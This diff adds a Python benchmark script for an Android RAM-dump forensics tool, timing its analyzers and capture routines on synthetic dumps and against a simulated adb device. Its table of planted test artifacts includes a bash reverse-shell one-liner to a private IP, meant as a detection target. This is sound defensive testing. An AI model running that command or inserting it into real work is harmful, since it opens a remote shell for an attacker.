@@ -0,0 +1,388 @@
+import os
+import sys
+import json
+import random
+import argparse
+import platform
+import tempfile
+import time
+import multiprocessing
+from concurrent.futures import ProcessPoolExecutor
+from contextlib import contextmanager
+from datetime import datetime
+
+import dump_analysis
+from jobs import result_failed
+
+try:
+    import resource
+except ImportError:
+    resource = None
+
+# Benchmark suite
+#
+#   python benchmark.py 64                       analysis and capture benchmarks on a 64 MB dump
+#   python benchmark.py --suite analysis --compare benchmark_results/benchmark_<timestamp>.json
+#
+# Every benchmark runs in a fresh process, so its peak RSS is its own. Capture
+# and acquisition benchmarks talk to fake_adb.py, a simulated device serving
+# the synthetic dump as /dev/mem with a configurable latency and bandwidth.
+# Results are saved as JSON in RESULTS_DIR; --compare reports every time that
+# moved by more than the tolerance against an earlier run, and exits non-zero
+# on a regression.
+RESULTS_DIR = "benchmark_results"
+REGRESSION_TOLERANCE = 0.10
+FAKE_ADB = os.path.join(os.path.dirname(os.path.abspath(__file__)), "fake_adb.py")
+SUITES = ("analysis", "capture", "scanner")
+
+PER_FUNCTION_ANALYZERS = (
+    dump_analysis.extract_processes,
+    dump_analysis.extract_network_connections,
+    dump_analysis.search_for_hidden_data,
+    dump_analysis.search_for_deleted_files,
+    dump_analysis.detect_malicious_patterns,
+)
+
+# Artifacts planted in text pages, by kind.
+PLANTED_ARTIFACTS = {
+    "processes": [b"\x00zygote64\x00 612 ", b"\x00system_server\x00 1024 "],
+    "connections": [b"10.0.0.5:41234 93.184.216.34:443 ESTABLISHED ", b"0.0.0.0:5555 0.0.0.0:0 LISTEN "],
+    "keys": [b"3f786850e387550fdab836ed7e6dc881de23001b ", b"QUJDREVGR0hJSktMTU5PUA== "],
+    "deleted_files": [b"/data/data/com.example/databases/cache.db "],
+    "signatures": [b"KeyLogger ", b"bash -i >& /dev/tcp/10.0.0.9/4444 0>&1 "],
+}
+WORDS = [b"the", b"activity", b"service", b"binder", b"thread", b"window", b"manager", b"intent", b"bundle", b"null"]
+
+
+def make_dump(path, size_mb=64, seed=0, zero_ratio=0.5, binary_ratio=0.33, artifact_rate=0.02, planted=None):
+    """
+    Write a deterministic synthetic dump of size_mb megabytes: zero_ratio of its
+    pages zero, binary_ratio random binary, and the rest text pages with
+    artifacts of planted ({kind: [bytes]}, PLANTED_ARTIFACTS by default)
+    between the words at artifact_rate. Returns the number of artifacts
+    planted whole, by kind.
+    """
+    rng = random.Random(seed)
+    planted = PLANTED_ARTIFACTS if planted is None else planted
+    artifacts = [(kind, artifact) for kind, kind_artifacts in planted.items() for artifact in kind_artifacts]
+    counts = {kind: 0 for kind in planted}
+    with open(path, "wb") as f:
+        for _ in range(size_mb * 256):
+            roll = rng.random()
+            if roll < zero_ratio:
+                f.write(bytes(4096))
+            elif roll < zero_ratio + binary_ratio:
+                f.write(rng.randbytes(4096))
+            else:
+                page = bytearray()
+                while len(page) < 4096:
+                    if artifacts and rng.random() < artifact_rate:
+                        kind, artifact = rng.choice(artifacts)
+                        if len(page) + len(artifact) <= 4096:
+                            counts[kind] += 1
+                        page += artifact
+                    else:
+                        page += rng.choice(WORDS) + b" "
+                f.write(page[:4096])
+    return counts
+
+
+def run_per_function(dump_path):
+    """
+    One sweep of the dump per analyzer, as analyze_ram_dump did before the single-pass scanner.
+    """
+    counts = {}
+    with dump_analysis.open_dump(dump_path) as ram_data:
+        for analyzer in PER_FUNCTION_ANALYZERS:
+            found = 0
+            for window in dump_analysis.iter_windows(len(ram_data)):
+                found += len(analyzer(ram_data, window))
+            counts[analyzer.__name__] = found
+    return counts
+
+
+def run_single_pass(dump_path, workers=1, shard_size=None):
+    results = dump_analysis.scan_dump(dump_path, workers=workers, shard_size=shard_size)
+    return {name: len(found) for name, found in results.items()}
+
+
+def timed(function, *args):
+    started = time.perf_counter()
+    result = function(*args)
+    return time.perf_counter() - started, result
+
+
+def bench_scanner(size_mb=64):
+    """
+    Compare the per-function analyzers with the single-pass scanner on a synthetic dump.
+    """
+    with tempfile.TemporaryDirectory() as tmp_dir:
+        dump_path = os.path.join(tmp_dir, "synthetic_dump.img")
+        make_dump(dump_path, size_mb)
+        size = os.path.getsize(dump_path) / (1024 * 1024)
+
+        lines = []
+        per_function_time, per_function_counts = timed(run_per_function, dump_path)
+        single_pass_time, single_pass_counts = timed(run_single_pass, dump_path)
+        lines.append(f"Dump size: {size:.0f} MB")
+        lines.append(f"Per-function: {per_function_time:.2f} s ({size / per_function_time:.1f} MB/s) {per_function_counts}")
+        lines.append(f"Single pass: {single_pass_time:.2f} s ({size / single_pass_time:.1f} MB/s) {single_pass_counts}")
+        lines.append(f"Speedup: {per_function_time / single_pass_time:.2f}x")
+
+        workers = os.cpu_count() or 1
+        shard_size = 8 * 1024 * 1024
+        parallel_time, parallel_counts = timed(run_single_pass, dump_path, workers, shard_size)
+        lines.append(f"Parallel ({workers} workers): {parallel_time:.2f} s ({size / parallel_time:.1f} MB/s) {parallel_counts}")
+        lines.append(f"Parallel speedup: {single_pass_time / parallel_time:.2f}x")
+        return "\n".join(lines)
+
+
+def peak_rss_mb():
+    """
+    Peak resident set size of this process and its finished children, in MB,
+    or None where the resource module is unavailable.
+    """
+    if resource is None:
+        return None
+    peak = max(resource.getrusage(who).ru_maxrss for who in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN))
+    # ru_maxrss is in kilobytes on Linux and in bytes on macOS.
+    return peak / (1024 * 1024) if sys.platform == "darwin" else peak / 1024
+
+
+def directory_size(path):
+    return sum(os.path.getsize(os.path.join(root, name)) for root, _, names in os.walk(path) for name in names)
+
+
+def _measured(function, args, kwargs, adb=None, environment=None):
+    """
+    Run function in this (fresh) process, pointed at the fake adb when given.
+    Returns (seconds, peak RSS in MB, result).
+    """
+    if adb:
+        import adb_session
+        os.environ.update(environment)
+        adb_session.ADB_EXECUTABLE = adb
+    started = time.perf_counter()
+    result = function(*args, **kwargs)
+    return time.perf_counter() - started, peak_rss_mb(), result
+
+
+def measure(function, *args, adb=None, environment=None, **kwargs):
+    """
+    Run function(*args, **kwargs) in a new process. Returns (seconds, peak RSS in MB, result).
+    """
+    with ProcessPoolExecutor(max_workers=1, mp_context=multiprocessing.get_context("spawn")) as executor:
+        return executor.submit(_measured, function, args, kwargs, adb, environment).result()
+
+
+@contextmanager
+def fake_device(dump_path, latency_ms=5.0, bandwidth_mb=40.0):
+    """
+    A fake adb executable serving dump_path as the device's memory. Yields
+    (adb path, environment) for measure(). Needs a POSIX shell.
+    """
+    with tempfile.TemporaryDirectory() as tmp_dir:
+        adb = os.path.join(tmp_dir, "adb")
+        with open(adb, "w") as f:
+            f.write(f'#!/bin/sh\nexec "{sys.executable}" "{FAKE_ADB}" "$@"\n')
+        os.chmod(adb, 0o755)
+        yield adb, {
+            "FAKE_ADB_DUMP": os.path.abspath(dump_path),
+            "FAKE_ADB_LATENCY_MS": str(latency_ms),
+            "FAKE_ADB_BANDWIDTH_MB": str(bandwidth_mb),
+            "FAKE_ADB_STATE": os.path.join(tmp_dir, "link"),
+        }
+
+
+def _result(seconds, peak_rss, size, outcome):
+    result = {"seconds": round(seconds, 4), "mb_per_s": round(size / (1024 * 1024) / seconds, 2) if seconds else None,
+              "peak_rss_mb": None if peak_rss is None else round(peak_rss, 1), "bytes": size}
+    if result_failed(outcome):
+        result["error"] = outcome.splitlines()[0]
+    return result
+
+
+def analyzer_times(dump_path):
+    """
+    Seconds taken by the page index build and by each analyzer on its own.
+    """
+    import entropy_detector
+    import page_index
+    import report_store
+    import string_counter
+
+    times = {}
+    if os.path.exists(page_index.index_path(dump_path)):
+        os.remove(page_index.index_path(dump_path))
+    times["page_index"], _ = timed(dump_analysis.build_page_index, dump_path)
+    with tempfile.TemporaryDirectory() as tmp_dir:
+        for name in dump_analysis.ANALYZER_NAMES:
+            with report_store.FindingStore(os.path.join(tmp_dir, f"{name}.db")) as store:
+                times[name], _ = timed(lambda: dump_analysis.scan_dump(dump_path, analyzers=(name,), sink=store))
+    with dump_analysis.open_dump(dump_path) as ram_data:
+        times["high_entropy"], _ = timed(entropy_detector.find_high_entropy_regions, ram_data)
+        times["strings"], _ = timed(string_counter.count_strings, ram_data)
+    return {name: round(seconds, 4) for name, seconds in times.items()}
+
+
+def bench_analysis(dump_path):
+    """
+    analyze_ram_dump on a dump with no page index or cached results, then each analyzer alone.
+    """
+    size = os.path.getsize(dump_path)
+    with tempfile.TemporaryDirectory() as output_dir:
+        seconds, peak_rss, outcome = measure(dump_analysis.analyze_ram_dump, dump_path, output_dir, use_cache=False)
+    result = _result(seconds, peak_rss, size, outcome)
+    result["analyzers"] = measure(analyzer_times, dump_path)[2]
+    return {"analyze_ram_dump": result}
+
+
+def _capture_size(function, output_dir, *args, **kwargs):
+    """
+    Run a capture into output_dir; returns (outcome, bytes saved).
+    """
+    outcome = function(output_dir, *args, **kwargs)
+    return outcome, directory_size(output_dir)
+
+
+def bench_capture(dump_path, latency_ms=5.0, bandwidth_mb=40.0):
+    """
+    Rooted RAM capture (ranged and single-stream), non-rooted capture, data
+    acquisition and app data extraction against a fake device holding dump_path.
+    """
+    import app_data
+    import data_acquisition
+    import ram_capture
+
+    captures = {
+        "capture_root_ram": (ram_capture.capture_root_ram, {}),
+        "capture_root_ram_single_stream": (ram_capture.capture_root_ram, {"range_size": None}),
+        "non_root_ram_capture": (ram_capture.non_root_ram_capture, {}),
+        "acquire_data": (data_acquisition.acquire_data, {"package_name": "com.example"}),
+        "extract_app_data": (app_data.extract_app_data, {"packages": [f"com.example.app{i}" for i in range(4)]}),
+    }
+    results = {}
+    with fake_device(dump_path, latency_ms, bandwidth_mb) as (adb, environment):
+        for name, (function, kwargs) in captures.items():
+            with tempfile.TemporaryDirectory() as output_dir:
+                seconds, peak_rss, (outcome, size) = measure(
+                    _capture_size, function, output_dir, adb=adb, environment=environment, **kwargs
+                )
+            results[name] = _result(seconds, peak_rss, size, outcome)
+    return results
+
+
+def save_results(results, config, directory=RESULTS_DIR):
+    """
+    Save a run's results with its configuration; returns the file's path.
+    """
+    os.makedirs(directory, exist_ok=True)
+    created = datetime.now()
+    path = os.path.join(directory, f"benchmark_{created.strftime('%Y%m%d_%H%M%S')}.json")
+    with open(path, "w") as f:
+        json.dump({
+            "created": created.isoformat(timespec="seconds"),
+            "config": config,
+            "platform": {"python": platform.python_version(), "system": platform.platform(), "cpus": os.cpu_count()},
+            "results": results,
+        }, f, indent=4)
+    return path
+
+
+def _timings(results):
+    for name, result in results.items():
+        if "seconds" in result and "error" not in result:
+            yield name, result["seconds"]
+        for analyzer, seconds in result.get("analyzers", {}).items():
+            yield f"{name}.{analyzer}", seconds
+
+
+def compare_results(baseline, results, tolerance=REGRESSION_TOLERANCE):
+    """
+    Compare timings with a saved run. Returns (report lines, number of regressions).
+    """
+    previous = dict(_timings(baseline["results"]))
+    lines, regressions = [], 0
+    for name, seconds in _timings(results):
+        if name not in previous or not previous[name]:
+            continue
+        change = seconds / previous[name] - 1
+        verdict = ""
+        if change > tolerance:
+            verdict = " REGRESSION"
+            regressions += 1
+        elif change < -tolerance:
+            verdict = " faster"
+        lines.append(f"{name}: {previous[name]:.3f} s -> {seconds:.3f} s ({change:+.0%}){verdict}")
+    return lines, regressions
+
+
+def format_results(results):
+    lines = []
+    for name, result in results.items():
+        if result["bytes"] >= 1024 * 1024:
+            rate = f", {result['bytes'] / (1024 * 1024):.0f} MB at {result['mb_per_s']:.1f} MB/s"
+        else:
+            rate = f", {result['bytes']} bytes"
+        rss = f", peak RSS {result['peak_rss_mb']:.0f} MB" if result.get("peak_rss_mb") is not None else ""
+        error = f" [{result['error']}]" if "error" in result else ""
+        lines.append(f"{name}: {result['seconds']:.2f} s{rate}{rss}{error}")
+        for analyzer, seconds in result.get("analyzers", {}).items():
+            lines.append(f"  {analyzer}: {seconds:.2f} s")
+    return lines
+
+
+def main(argv=None):
+    parser = argparse.ArgumentParser(description="Benchmark analysis and capture on a synthetic dump.")
+    parser.add_argument("size_mb", nargs="?", type=int, default=64, help="synthetic dump size in MB")
+    parser.add_argument("--seed", type=int, default=0)
+    parser.add_argument("--zero-ratio", type=float, default=0.5, help="fraction of zero pages")
+    parser.add_argument("--binary-ratio", type=float, default=0.33, help="fraction of random binary pages")
+    parser.add_argument("--artifact-rate", type=float, default=0.02, help="artifacts per word in text pages")
+    parser.add_argument("--latency-ms", type=float, default=5.0, help="fake device latency per command")
+    parser.add_argument("--bandwidth", type=float, default=40.0, help="fake device bandwidth in MB/s (0: unlimited)")
+    parser.add_argument("--suite", nargs="+", choices=SUITES, default=["analysis", "capture"])
+    parser.add_argument("--results-dir", default=RESULTS_DIR)
+    parser.add_argument("--no-save", action="store_true", help="do not save this run's results")
+    parser.add_argument("--compare", metavar="BASELINE", help="saved results to compare against")
+    parser.add_argument("--tolerance", type=float, default=REGRESSION_TOLERANCE, help="allowed slowdown, e.g. 0.1")
+    args = parser.parse_args(argv)
+
+    if "scanner" in args.suite:
+        print(bench_scanner(args.size_mb))
+    config = {key: value for key, value in vars(args).items() if key not in ("results_dir", "no_save", "compare")}
+    results = {}
+    with tempfile.TemporaryDirectory() as tmp_dir:
+        dump_path = os.path.join(tmp_dir, "synthetic_dump.img")
+        config["planted"] = make_dump(
+            dump_path, args.size_mb, args.seed, args.zero_ratio, args.binary_ratio, args.artifact_rate
+        )
+        if "analysis" in args.suite:
+            results.update(bench_analysis(dump_path))
+        if "capture" in args.suite:
+            results.update(bench_capture(dump_path, args.latency_ms, args.bandwidth))
+    if not results:
+        return 0
+
+    print("\n".join(format_results(results)))
+    if not args.no_save:
+        print(f"Results saved to {save_results(results, config, args.results_dir)}")
+    if args.compare:
+        with open(args.compare, "r") as f:
+            baseline = json.load(f)
+        lines, regressions = compare_results(baseline, results, args.tolerance)
+        print(f"Compared with {args.compare}:")
+        baseline_config = baseline.get("config", {})
+        changed = sorted(
+            key for key in config
+            if key not in ("suite", "tolerance") and key in baseline_config and baseline_config[key] != config[key]
+        )
+        if changed:
+            print(f"Warning: the runs differ in {', '.join(changed)}; timings are not directly comparable")
+        print("\n".join(lines))
+        return 1 if regressions else 0
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())